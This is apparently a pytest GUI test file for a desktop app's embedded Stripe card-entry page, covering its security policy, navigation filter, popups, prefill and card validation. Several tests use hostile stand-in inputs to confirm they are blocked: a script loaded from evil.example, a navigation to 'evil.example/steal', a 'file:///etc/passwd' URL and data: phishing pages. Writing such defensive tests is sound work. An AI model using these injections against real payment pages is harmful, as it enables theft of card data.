"""The entry view on its own: the page, its policy, its filter, its bridge, Stripe's fields."""

from __future__ import annotations

import json
import logging
import tempfile
from pathlib import Path
from typing import Any

import pytest
import shiboken6
from PySide6.QtCore import QUrl
from PySide6.QtWebEngineCore import QWebEnginePage

from owl_desktop.ui.web.bridge import CARD_FIELDS
from owl_desktop.ui.web.origins import EMBEDDED_ORIGIN
from owl_desktop.ui.web.page import StripePopup
from owl_desktop.ui.web.view import EntryPrefill, EntryView
from tests.gui.entry.helpers import (
    BLUE,
    RED,
    click_to_open,
    field_color,
    run_js,
    type_into,
    wait_until,
)
from tests.gui.entry.numbers import CARD_AMEX, CARD_INVALID_LUHN, CARD_VISA, find_numbers

PREFILL = EntryPrefill(name="Ann Tremblay", email="ann@example.com", line1="1 Main St",
                       city="Montréal", state="QC", postal_code="H2X 1Y4")



# Types through the sandbox double's hooks and reads inside its frames (colours): sandbox only.
# The same cases with real keystrokes, on any Stripe: test_add_payment_method.py.
sandbox_hooks = pytest.mark.usefixtures("sandbox")

def open_card_form(view: EntryView, prefill: EntryPrefill = PREFILL) -> None:
    view.open_form("card", prefill)
    wait_until(lambda: view.state.value == "opened", what="the card form")


def test_page_runs_on_its_https_origin_under_a_strict_policy(ready_view: EntryView,
                                                             sandbox: Any) -> None:
    page = ready_view.page()
    assert run_js(page, "location.origin") == EMBEDDED_ORIGIN
    policy = run_js(page, "document.querySelector('meta[http-equiv=\"Content-Security-Policy\"]')"
                          ".content")
    assert "default-src 'none'" in policy
    assert "'unsafe-inline'" not in policy.split("script-src")[1].split(";")[0]
    assert sandbox.url in policy
    assert "https://hooks.stripe.com" in policy
    assert "https://*.stripe.com" not in policy
    # Stripe.js came from the configured URL, not from anywhere else.
    assert run_js(page, "document.querySelector('script[src]').src") == \
        sandbox.stripe_js_url


def test_policy_refuses_a_foreign_script_and_the_console_reaches_the_log(
        ready_view: EntryView, caplog: pytest.LogCaptureFixture) -> None:
    caplog.set_level(logging.INFO, logger="owl_desktop.ui.web.console")
    run_js(ready_view.page(), "var s = document.createElement('script');"
                              "s.src = 'https://evil.example/x.js';"
                              "document.head.appendChild(s); console.info('owl console check'); 1")
    wait_until(lambda: any("evil.example" in r.getMessage() for r in caplog.records),
               what="the CSP violation in the log")
    wait_until(lambda: any("owl console check" in r.getMessage() for r in caplog.records),
               what="console.info in the log")
    assert run_js(ready_view.page(), "typeof window.evilLoaded") == "undefined"


def test_navigation_filter_keeps_the_page_on_stripe_only(ready_view: EntryView,
                                                         sandbox: Any) -> None:
    page = ready_view.page()
    blocked: list[str] = []
    ready_view.entry_page.navigation_blocked.connect(blocked.append)
    run_js(page, "location.href = 'https://evil.example/steal'; 1")
    wait_until(lambda: blocked, what="the blocked navigation")
    assert blocked == ["https://evil.example"]
    assert run_js(page, "location.origin") == EMBEDDED_ORIGIN

    link = QWebEnginePage.NavigationType.NavigationTypeLinkClicked
    accept = ready_view.entry_page.acceptNavigationRequest
    # Frames (the page's own are held to Stripe by its CSP): any https origin, since a bank's
    # 3-D Secure runs inside Stripe's; never plain http (but the loopback sandbox), data:...
    assert accept(QUrl("https://js.stripe.com/v3/elements-inner.html"), link, False)
    assert accept(QUrl("https://hooks.stripe.com/3d_secure_2/hosted"), link, False)
    assert accept(QUrl("https://acs.bank.example/challenge"), link, False)
    assert accept(QUrl(sandbox.url + "/v3/3ds.html"), link, False)
    assert not accept(QUrl("http://js.stripe.com/v3/"), link, False)
    assert not accept(QUrl("http://acs.bank.example/challenge"), link, False)
    assert not accept(QUrl("data:text/html,<p>phish</p>"), link, False)
    assert not accept(QUrl("file:///etc/passwd"), link, False)
    # The main frame never leaves the entry page, not even for Stripe.
    assert not accept(QUrl("https://js.stripe.com/v3/"), link, True)
    # data: only for the app's own setHtml, never from the page.
    typed = QWebEnginePage.NavigationType.NavigationTypeTyped
    assert accept(QUrl("data:text/html,<p>entry</p>"), typed, True)
    assert not accept(QUrl("data:text/html,<p>phish</p>"), link, True)
    redirect = QWebEnginePage.NavigationType.NavigationTypeRedirect
    assert not accept(QUrl("data:text/html,<p>phish</p>"), redirect, True)


def test_stripe_popups_open_in_a_window_the_app_controls(ready_view: EntryView,
                                                         sandbox: Any) -> None:
    popups: list[StripePopup] = []
    ready_view.entry_page.popup_opened.connect(popups.append)
    ready_view.entry_page.set_stripe_flow(True)  # as while confirming
    click_to_open(ready_view, sandbox.url + "/v3/3ds.html")
    popup = wait_until(lambda: popups and popups[0], what="the pop-up window")
    assert isinstance(popup, StripePopup)
    wait_until(lambda: popup.loaded, what="the pop-up page")
    assert popup.page.url().toString().startswith(sandbox.url)
    blocked: list[str] = []
    popup.page.navigation_blocked.connect(blocked.append)
    popup.page.runJavaScript("location.href = 'http://evil.example/';")
    wait_until(lambda: blocked == ["http://evil.example"], what="the pop-up's filter")
    popup.page.runJavaScript("window.close();")  # the page goes with its window: no result
    wait_until(lambda: not shiboken6.isValid(popup) or not popup.isVisible(),
               what="the pop-up to close")


def test_a_popup_for_a_foreign_host_closes_by_itself(ready_view: EntryView) -> None:
    popups: list[StripePopup] = []
    ready_view.entry_page.popup_opened.connect(popups.append)
    ready_view.entry_page.set_stripe_flow(True)
    click_to_open(ready_view, "https://evil.example/phish")
    popup = wait_until(lambda: popups and popups[0], what="the pop-up window")
    wait_until(lambda: not shiboken6.isValid(popup) or not popup.isVisible(),
               what="the pop-up to close itself")


def test_prefill_fills_the_form(ready_view: EntryView) -> None:
    open_card_form(ready_view)
    page = ready_view.page()
    assert run_js(page, "document.getElementById('name').value") == "Ann Tremblay"
    assert run_js(page, "document.getElementById('city').value") == "Montréal"
    assert run_js(page, "document.getElementById('state').value") == "QC"
    assert run_js(page, "document.getElementById('address').hidden") is False
    assert run_js(page, "document.getElementById('bank').hidden") is True
    assert ready_view.name_given


def test_page_asks_browsers_for_the_referrer_stripes_bank_flows_need(
        ready_view: EntryView) -> None:
    """Financial Connections' checklist: no-referrer can break the bank login."""
    assert run_js(ready_view.page(), "document.querySelector('meta[name=\"referrer\"]')"
                                     ".content") == "strict-origin-when-cross-origin"


@sandbox_hooks
def test_prepared_without_ready_from_hidden_fields_and_no_link_button(
        ready_view: EntryView) -> None:
    """Stripe.js may hold 'ready' while a field is hidden (the form is, until opened): the
    view is prepared all the same, and the caret goes to the number once it is ready."""
    page = ready_view.page()

    def fields() -> dict[str, Any]:
        listed = json.loads(run_js(page, "JSON.stringify(window.__stripeSandbox.elements())"))
        return {f["elementType"]: f for f in listed if f["mounted"]}

    assert run_js(page, "document.getElementById('card').hidden") is True
    assert ready_view.is_ready
    assert set(fields()) == set(CARD_FIELDS)
    assert not any(f["ready"] for f in fields().values())
    # No Link button in the card number (staff type a client's card); the others can't take it.
    assert fields()["cardNumber"]["options"].get("disableLink") is True
    assert "disableLink" not in fields()["cardExpiry"]["options"]
    open_card_form(ready_view)
    wait_until(lambda: all(f["ready"] for f in fields().values()), what="ready once shown")
    wait_until(lambda: fields()["cardNumber"]["focused"], what="the caret in the number")


@sandbox_hooks
def test_valid_fields_turn_blue_and_allow_saving(ready_view: EntryView) -> None:
    open_card_form(ready_view)
    page = ready_view.page()
    assert not ready_view.can_save
    type_into(page, "cardNumber", CARD_VISA)
    type_into(page, "cardExpiry", "12/34")
    assert not ready_view.can_save  # no CVC yet
    type_into(page, "cardCvc", "123")
    wait_until(lambda: ready_view.can_save, what="Save to be allowed")
    for name in CARD_FIELDS:
        assert field_color(page, name) == BLUE, name
        assert ready_view.field_states[name].valid


@sandbox_hooks
def test_an_invalid_number_turns_red_and_blocks_saving(ready_view: EntryView) -> None:
    open_card_form(ready_view)
    page = ready_view.page()
    type_into(page, "cardNumber", CARD_INVALID_LUHN)
    type_into(page, "cardExpiry", "12/34")
    type_into(page, "cardCvc", "123")
    wait_until(lambda: ready_view.field_states["cardNumber"].error_code, what="the error")
    assert ready_view.field_states["cardNumber"].error_code == "invalid_number"
    assert field_color(page, "cardNumber") == RED
    assert not ready_view.can_save
    # Stripe's own message is shown under the card number.
    assert run_js(page, "document.getElementById('cardNumber-error').textContent") == \
        ready_view.field_states["cardNumber"].error_message != ""


@sandbox_hooks
def test_a_past_expiry_is_invalid(ready_view: EntryView) -> None:
    open_card_form(ready_view)
    page = ready_view.page()
    type_into(page, "cardNumber", CARD_VISA)
    type_into(page, "cardExpiry", "01/20")
    type_into(page, "cardCvc", "123")
    wait_until(lambda: ready_view.field_states["cardExpiry"].error_code, what="the error")
    assert ready_view.field_states["cardExpiry"].error_code.startswith("invalid_expiry")
    assert field_color(page, "cardExpiry") == RED
    assert not ready_view.can_save


@sandbox_hooks
def test_amex_needs_a_four_digit_cvc(ready_view: EntryView) -> None:
    open_card_form(ready_view)
    page = ready_view.page()
    type_into(page, "cardNumber", CARD_AMEX)
    type_into(page, "cardExpiry", "12/34")
    type_into(page, "cardCvc", "123")
    wait_until(lambda: ready_view.field_states["cardNumber"].valid, what="the Amex number")
    assert not ready_view.field_states["cardCvc"].complete
    assert not ready_view.can_save
    type_into(page, "cardCvc", "4")
    wait_until(lambda: ready_view.can_save, what="the 4-digit CVC to complete")
    assert field_color(page, "cardCvc") == BLUE


@sandbox_hooks
def test_a_name_is_required(ready_view: EntryView) -> None:
    open_card_form(ready_view, EntryPrefill())
    page = ready_view.page()
    type_into(page, "cardNumber", CARD_VISA)
    type_into(page, "cardExpiry", "12/34")
    type_into(page, "cardCvc", "123")
    wait_until(lambda: ready_view.fields_complete, what="complete fields")
    assert not ready_view.can_save
    run_js(page, "var n = document.getElementById('name'); n.value = 'Ann';"
                 "n.dispatchEvent(new Event('input')); 1")
    wait_until(lambda: ready_view.can_save, what="Save once a name is given")


def test_french_reaches_stripe_and_the_labels(entry_pool: Any, entry_settings: Any) -> None:
    from dataclasses import replace

    view = EntryView(entry_pool.profile, replace(entry_settings, language="fr",
                                                 texts={"card_heading": "Carte"}))
    try:
        wait_until(lambda: view.is_ready, what="the French view")
        page = view.page()
        assert run_js(page, "document.documentElement.lang") == "fr"
        assert run_js(page, "document.querySelector('[data-text=card_heading]').textContent") \
            == "Carte"
        frame_url = run_js(page, "document.querySelector('iframe').src")
        assert "fr-CA" in QUrl.fromPercentEncoding(frame_url.encode())
    finally:
        view.dispose()


def test_the_number_scan_finds_numbers_however_written() -> None:
    with tempfile.TemporaryDirectory() as tmp:  # outside the session's scanned dirs
        (Path(tmp) / "log.txt").write_text(f"typed {CARD_VISA[:4]} {CARD_VISA[4:8]} "
                                           f"{CARD_VISA[8:12]} {CARD_VISA[12:]}\n")
        (Path(tmp) / "clean.txt").write_text("last4 4242, pm_123\n")
        hits = find_numbers(Path(tmp))
    assert len(hits) == 1
    assert hits[0].endswith(CARD_VISA)
